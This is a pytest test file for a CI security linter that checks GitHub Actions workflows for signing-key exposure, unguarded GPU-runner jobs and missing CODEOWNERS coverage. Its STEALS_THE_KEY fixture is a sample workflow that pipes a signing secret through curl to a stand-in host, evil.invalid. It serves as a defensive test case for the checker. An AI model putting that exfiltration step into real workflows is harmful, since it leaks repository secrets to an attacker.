"""`twinbuild workflows check`: the signing key stays where only the default branch's code runs,
a workflow_run workflow reaches GPU runners only behind the trigger check, and every trust root
has a code owner the gate can count.

GitHub runs the pushed branch's own copy of a push workflow: a PR that adds one on validate/**
with the signing environment would get the key the moment a maintainer pushes it for validation.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.unit.gitrepos import commit_all, git, isolate_git, needs_git
from twinbuild.ci import ownership, workflows
from twinbuild.cli.main import main
from twinbuild.util.codeowners import PLACEHOLDER

ROOT = Path(__file__).resolve().parents[2]
STEALS_THE_KEY = """\
name: build-more
on:
  push:
    branches: ["validate/**"]
permissions: {}
jobs:
  more:
    runs-on: ubuntu-24.04
    environment: evidence-signing
    steps:
      - run: echo "$KEY" | curl -sd @- https://evil.invalid
        env:
          KEY: ${{ secrets.TWINBUILD_EVIDENCE_KEY }}
"""


def _check(tmp_path: Path, text: str) -> list[tuple[int, str]]:
    path = tmp_path / "wf.yml"
    path.write_text(text, encoding="utf-8")
    return [(f.line, f.code) for f in workflows.check([path])]


def test_a_push_workflow_that_holds_the_signing_environment_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "wf.yml"
    path.write_text(STEALS_THE_KEY, encoding="utf-8")
    findings = workflows.check([path])
    assert [(f.line, f.code) for f in findings] == [(9, "TB-W007"), (13, "TB-W007")]
    assert findings[0].message == (
        "job 'more' holds the signing environment 'evidence-signing' in a workflow that push "
        "starts; a push to validate/** runs the pushed branch's copy of such a file, which a PR "
        "may have written: use the signing environment only in a workflow_run workflow of the "
        "default branch (validate-gpu.yml)"
    )
    assert findings[1].message.startswith(
        "the signing key's secret TWINBUILD_EVIDENCE_KEY in a workflow that push starts;"
    )


@pytest.mark.parametrize(
    ("on", "environment"),
    [
        ("push:\n    branches: [main]", "{name: evidence-signing}"),  # a PR edits the filter
        ("workflow_dispatch:", "evidence-signing"),  # dispatched at validate/pr-N: that copy
        ("workflow_call:", "evidence-signing"),  # called by a push workflow
        ("pull_request_target:\n    branches: [main]", "evidence-signing"),
        ("workflow_dispatch:", "${{ inputs.where }}"),  # an expression may name it
        ("push:", "Evidence-Signing"),  # GitHub ignores the case of environment names
    ],
)
def test_the_signing_environment_only_in_workflow_run_or_schedule(
    tmp_path: Path, on: str, environment: str
) -> None:
    text = f"""\
on:
  {on}
permissions: {{}}
jobs:
  sign:
    runs-on: ubuntu-24.04
    environment: {environment}
    steps:
      - run: echo signing
"""
    line = 6 + on.count("\n")  # the environment's line
    assert _check(tmp_path, text) == [(line + 1, "TB-W007")]


WORKFLOW_RUN = """\
on:
  workflow_run:
    workflows: [validate]
    types: [completed]
permissions: {{}}
jobs:
  trigger:
    runs-on: ubuntu-24.04
    outputs: {{commit: "${{{{ steps.t.outputs.commit }}}}"}}
    steps:
      - run: {trigger}
  smoke:
    needs: {needs}
    runs-on: [self-hosted, gpu, cuda]
    steps:
      - run: echo smoke
  sign:
    needs: [smoke, trigger]
    runs-on: ubuntu-24.04
    environment: evidence-signing
    steps:
      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2
        with:
          {ref}persist-credentials: false
"""


def test_a_guarded_workflow_run_reaches_gpu_runners_and_the_key(tmp_path: Path) -> None:
    text = WORKFLOW_RUN.format(
        trigger="twinbuild evidence trigger --github-output", needs="trigger", ref=""
    )
    assert _check(tmp_path, text) == []


@pytest.mark.parametrize(
    ("trigger", "needs"),
    [
        ("echo no check", "trigger"),  # the job it needs checks nothing
        ("twinbuild evidence trigger", "[]"),  # it does not need the check
    ],
)
def test_an_unguarded_workflow_run_may_not_reach_gpu_runners(
    tmp_path: Path, trigger: str, needs: str
) -> None:
    text = WORKFLOW_RUN.format(trigger=trigger, needs=needs, ref="")
    assert _check(tmp_path, text) == [(14, "TB-W001")]


def test_the_signing_job_checks_out_the_default_branch_only(tmp_path: Path) -> None:
    ref = "ref: ${{ needs.trigger.outputs.commit }}\n          "
    text = WORKFLOW_RUN.format(trigger="twinbuild evidence trigger", needs="trigger", ref=ref)
    assert _check(tmp_path, text) == [(24, "TB-W007")]


def _repository(tmp_path: Path, codeowners: str | None) -> Path:
    """A repository holding our workflows and package layout, with ``codeowners``."""
    root = tmp_path / "repo"
    shutil.copytree(ROOT / ".github", root / ".github")
    (root / "twinbuild").mkdir()
    (root / "twinbuild/__init__.py").write_text("")
    (root / "evidence/keys").mkdir(parents=True)
    (root / "evidence/keys/ci.pub").write_text("key\n")
    (root / "images/cuda").mkdir(parents=True)
    (root / "images/cuda/Dockerfile").write_text("FROM scratch\n")
    if codeowners is None:
        (root / ".github/CODEOWNERS").unlink()
    else:
        (root / ".github/CODEOWNERS").write_text(codeowners)
    return root


def test_our_codeowners_covers_every_trust_root() -> None:
    assert ownership.check(ROOT) == []


@pytest.mark.parametrize(
    ("codeowners", "expected"),
    [
        (None, [(".github/CODEOWNERS", 1, "no CODEOWNERS")]),
        ("* @twinbuild/maintainers\n", [(".github/CODEOWNERS", 1, "trust root .github/CODEOWNERS has no @user code owner (line 1 (*) gives it @twinbuild/maintainers)")]),
        ("/twinbuild/ @alice\n/.github/ @alice\n", [(".github/CODEOWNERS", 1, "trust root CODEOWNERS has no @user code owner (no line matches it)")]),
        ("* @alice\n/evidence/keys/\n", [(".github/CODEOWNERS", 2, "trust root evidence/keys/ci.pub has no @user code owner (line 2 (/evidence/keys/) gives it no owners)")]),
    ],
)  # fmt: skip
def test_a_trust_root_without_a_user_owner_is_a_finding(
    tmp_path: Path, codeowners: str | None, expected: list[tuple[str, int, str]]
) -> None:
    findings = ownership.check(_repository(tmp_path, codeowners))
    first = findings[0]
    assert (first.path, first.line, first.code) == (*expected[0][:2], "TB-W008")
    assert first.message.startswith(expected[0][2])
    assert all(f.code == "TB-W008" for f in findings)


@needs_git
def test_workflows_check_fails_on_an_uncovered_trust_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    isolate_git(monkeypatch, tmp_path / "home")
    root = _repository(tmp_path, "* @alice\n/evidence/keys/\n")
    git(root, "init", "-q", "-b", "main")
    commit_all(root, "a repository")
    capsys.readouterr()
    assert main(["workflows", "check", "--root", str(root)]) == 1
    out = capsys.readouterr().out.splitlines()
    assert (
        ".github/CODEOWNERS:2: TB-W008 trust root evidence/keys/ci.pub has no @user code owner"
        in out[0]
    )
    assert "zizmor: clean" in out


@pytest.mark.parametrize(
    "spelling",
    [
        "secrets.TWINBUILD_EVIDENCE_KEY",
        "secrets['TWINBUILD_EVIDENCE_KEY']",
        "secrets.twinbuild_evidence_key",
    ],
)
def test_every_spelling_of_the_key_is_seen(tmp_path: Path, spelling: str) -> None:
    text = STEALS_THE_KEY.replace("    environment: evidence-signing\n", "").replace(
        "secrets.TWINBUILD_EVIDENCE_KEY", spelling
    )
    assert _check(tmp_path, text) == [(12, "TB-W007")]


@needs_git
def test_the_shipped_placeholder_owner_fails_in_actions_and_is_a_note_elsewhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """TB-W011 (#39): anyone may register the placeholder login our CODEOWNERS ships, so a
    deployment's CI (GitHub Actions) fails until it names its maintainers; a clone of twinbuild
    itself, linting outside Actions, is told so and passes."""
    isolate_git(monkeypatch, tmp_path / "home")
    root = _repository(tmp_path, f"# owners\n* @{PLACEHOLDER.upper()}\n")
    git(root, "init", "-q", "-b", "main")
    commit_all(root, "a repository")
    said = (
        f"names @{PLACEHOLDER}, the placeholder twinbuild ships; anyone may register that login, "
        "so it must own nothing: replace it with your maintainers' logins (docs/trust.md, "
        "required setting 5)"
    )
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    capsys.readouterr()
    assert main(["workflows", "check", "--root", str(root)]) == 1
    assert capsys.readouterr().out.splitlines()[0] == f".github/CODEOWNERS:2: TB-W011 {said}"
    monkeypatch.delenv("GITHUB_ACTIONS")
    assert main(["workflows", "check", "--root", str(root)]) == 0
    out = capsys.readouterr().out.splitlines()
    assert out[:2] == [
        "trust check: clean",
        f"note: .github/CODEOWNERS:2: {said} (a finding in GitHub Actions, TB-W011)",
    ]
